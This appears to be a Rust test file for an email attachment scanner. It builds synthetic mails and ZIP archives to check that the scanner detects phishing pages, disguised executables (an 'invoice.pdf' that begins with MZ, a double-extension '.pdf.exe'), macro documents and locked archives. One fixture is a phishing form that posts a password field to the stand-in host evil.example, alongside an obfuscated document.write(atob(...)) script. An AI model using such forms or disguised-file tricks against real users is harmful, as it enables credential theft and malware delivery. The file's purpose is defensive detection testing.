use proptest::prelude::*;

use super::*;

fn mail_with(media_type: &str, name: &str, content: &[u8]) -> Vec<u8> {
    let mut raw = format!(
        "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhello\r\n--x\r\n\
         Content-Type: {media_type}\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\n"
    )
    .into_bytes();
    raw.extend_from_slice(content);
    raw.extend_from_slice(b"\r\n--x--\r\n");
    raw
}

fn attached(media_type: &str, name: &str, content: &[u8]) -> Vec<Opened> {
    let raw = mail_with(media_type, name, content);
    let (mail, _) = mail::parse(&raw, &mail::Limits::default());
    open_all(&mail, &Body::of(&mail), &mut Opener::new(&Limits::default(), ["", ""]))
}

fn one(media_type: &str, name: &str, content: &[u8]) -> Opened {
    attached(media_type, name, content).pop().unwrap()
}

/// An archive without contents: local headers are not read.
fn zip(names: &[&str], flags: u8) -> Vec<u8> {
    let mut octets = b"PK\x03\x04".to_vec();
    let mut directory = Vec::new();
    for name in names {
        directory.extend_from_slice(b"PK\x01\x02\x14\0\x14\0");
        directory.extend_from_slice(&[flags, 0]);
        directory.extend_from_slice(&[0; 18]);
        directory.extend_from_slice(&u16::try_from(name.len()).unwrap().to_le_bytes());
        directory.extend_from_slice(&[0; 16]);
        directory.extend_from_slice(name.as_bytes());
    }
    octets.extend_from_slice(&directory);
    octets.extend_from_slice(b"PK\x05\x06\0\0\0\0\0\0\0\0");
    octets.extend_from_slice(&u32::try_from(directory.len()).unwrap().to_le_bytes());
    octets.extend_from_slice(&[0; 6]);
    octets
}

#[test]
fn a_page_under_any_type_tells_its_form_and_its_scripts() {
    let page = b"<!DOCTYPE html><form method=post action='https://evil.example/c'>\
        <input type=password name=p></form><script>document.write(atob('PGI+'))</script>";
    for media_type in ["application/octet-stream", "text/html", "application/html", "image/png"] {
        let opened = one(media_type, "notice.html", page);
        assert_eq!(opened.attachment.kind, AttachmentKind::Page, "{media_type}");
        assert_eq!(opened.attachment.forms.len(), 1);
        assert_eq!(opened.attachment.script_signs, ["document.write", "atob("]);
        assert!(opened.links.iter().any(|(link, _)| link == "https://evil.example/c"));
    }
}

#[test]
fn an_archive_names_the_programs_in_it() {
    let opened = one("application/zip", "a.zip", &zip(&["readme.txt", "請求書.pdf.exe"], 0));
    assert_eq!(opened.attachment.programs, ["請求書.pdf.exe"]);
    assert_eq!(opened.attachment.lying_names, ["請求書.pdf.exe"]);
    assert!(!opened.attachment.is_locked && !opened.attachment.is_read);
    let locked = one("application/zip", "a.zip", &zip(&["a.xlsx"], 1));
    assert!(locked.attachment.is_locked && locked.attachment.programs.is_empty());
    let macros = one("application/x", "a.docm", &zip(&["word/vbaProject.bin"], 0));
    assert!(macros.attachment.is_active);
}

#[test]
fn a_program_is_known_whatever_it_is_called() {
    let hidden = one("application/pdf", "invoice.pdf", b"MZ\x90\0");
    assert_eq!(hidden.attachment.programs, ["invoice.pdf"]);
    assert_eq!(hidden.attachment.lying_names, ["invoice.pdf"]);
    let script = one("text/plain", "a.vbs", b"MsgBox 1");
    assert_eq!(script.attachment.programs, ["a.vbs"]);
    assert!(script.attachment.lying_names.is_empty());
}

#[test]
fn a_mail_without_files_has_no_attachments() {
    for raw in [
        "From: a@example.jp\r\n\r\nhello\r\n",
        "Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\n\r\na\r\n--x\r\n\
         Content-Type: text/html\r\n\r\n<p>a\r\n--x--\r\n",
        "Content-Type: multipart/signed; boundary=x\r\n\r\n--x\r\n\r\na\r\n--x\r\n\
         Content-Type: application/pkcs7-signature; name=smime.p7s\r\n\r\nxx\r\n--x--\r\n",
    ] {
        let (mail, _) = mail::parse(raw.as_bytes(), &mail::Limits::default());
        assert!(
            open_all(&mail, &Body::of(&mail), &mut Opener::new(&Limits::default(), ["", ""]))
                .is_empty(),
            "{raw}"
        );
    }
}

proptest! {
    #[test]
    fn any_bytes_can_be_attached(
        start in prop::sample::select(vec![
            &b""[..], b"PK\x03\x04", b"%PDF-1 /URI (", b"BEGIN:VCALENDAR\r\nURL:", b"<html>",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x01\x02",
        ]),
        content in proptest::collection::vec(any::<u8>(), 0..400),
        end in prop::sample::select(vec![&b""[..], b"PK\x05\x06\0\0\0\0\0\0\0\0\x20\0\0\0\0\0\0\0\0\0"]),
        name in "[a-z.\u{202e}]{0,12}",
    ) {
        let octets = [start, &content, end].concat();
        let _ = attached("application/octet-stream", &name, &octets);
        let _ = attached("text/calendar", &name, &octets);
    }
}
